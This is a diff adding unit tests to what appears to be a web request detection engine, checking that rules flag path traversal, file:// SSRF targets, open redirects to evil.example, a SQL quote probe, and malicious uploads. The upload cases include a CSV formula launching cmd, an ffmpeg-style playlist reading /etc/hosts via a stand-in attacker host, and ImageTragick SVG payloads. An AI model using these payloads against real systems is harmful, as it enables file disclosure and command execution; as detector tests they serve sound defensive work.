@@ -47,6 +47,78 @@ describe('what interfaces of management take', () => {
   })
 })
 
+describe('by the name of what it stands in', () => {
+  const posted = (field: string, value: string): readonly string[] =>
+    rulesOf('/', JSON_TYPE, JSON.stringify({ [field]: value }))
+
+  test('steps out of a name, not the path of a part of a program', () => {
+    for (const field of ['name', 'setting_value', 'file_name', 'theme'])
+      assert.deepEqual(posted(field, '../../../../x'), ['traversal/steps-in-name'], field)
+    for (const [field, value] of [
+      ['name', '../../../../node_modules/a/index.js'],
+      ['extends', '../../../../base'],
+      ['path', '../../../src/a'],
+      ['name', '../../x'],
+    ] as const)
+      assert.deepEqual(posted(field, value), [], value)
+  })
+
+  test('a file of the server under the name of an address that is fetched', () => {
+    assert.deepEqual(posted('clone_addr', 'file:///etc/'), ['ssrf/file-target'])
+    assert.deepEqual(posted('image_url', 'file:///srv/a'), ['ssrf/file-target'])
+    assert.deepEqual(posted('documentUri', 'file:///home/ann/app.js'), [])
+  })
+
+  test('a host where the browser is sent, under a name that says so', () => {
+    for (const target of [
+      '/login?next=//evil.example',
+      '/login?returnUrl=%0d/evil.example',
+      '/o?redirect_uri=//evil.example/x',
+    ])
+      assert.ok(rulesOf(target).includes('ssrf/target-host'), target)
+    for (const target of [
+      '/login?next=/account',
+      '/img?src=//cdn.example/a.png',
+      '/login?next=https://a.example/',
+    ])
+      assert.deepEqual(rulesOf(target), [], target)
+  })
+
+  test('a quote behind the number of a page or a product', () => {
+    assert.ok(rulesOf("/shop?cat=1'").includes('sqli/quote-probe'))
+    assert.deepEqual(rulesOf("/shop?height=6'"), [])
+  })
+})
+
+describe('files that harm whoever reads them', () => {
+  const upload = (name: string, content: string): readonly string[] =>
+    rulesOf(
+      '/upload',
+      'multipart/form-data; boundary=b',
+      `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\n\r\n${content}\r\n--b--\r\n`,
+    )
+
+  test('a table with a cell that starts a program, a playlist of files, a drawing that pipes, a framed file', () => {
+    for (const [name, content] of [
+      ['a.csv', "a,=cmd|' /C calc'!A0,b"],
+      ['a.avi', '#EXTM3U\n#EXTINF:10.0,\nconcat:http://evil.example/h|file:///etc/hosts\n'],
+      ['a.svg', '<svg><image xlink:href="https://evil.example/x.jpg&quot;|id &quot;"/></svg>'],
+      ['a.svg', '<svg><image xlink:href="msl:/tmp/x"/></svg>'],
+      ['a.html', '<iframe src="file:///etc/hosts"></iframe>'],
+      ["x${''.class}.png", 'x'],
+    ] as const)
+      assert.notDeepEqual(upload(name, content), [], `${name} ${content}`)
+    for (const [name, content] of [
+      ['a.csv', 'a,=SUM(A1:A9),"cmd | run!"'],
+      ['a.m3u8', '#EXTM3U\n#EXTINF:10.0,\nhttps://a.example/1.ts\n'],
+      ['a.svg', '<svg><image href="https://a.example/b.png?x=1&amp;y=2"/></svg>'],
+      ['a.html', '<iframe src="https://www.youtube.com/embed/x"></iframe>'],
+      ['${name}.png', 'x'],
+    ] as const)
+      assert.deepEqual(upload(name, content), [], `${name} ${content}`)
+  })
+})
+
 describe('objects in other spellings', () => {
   test('an object of Java in hexadecimal, in either case and however long', () => {
     for (const hex of [
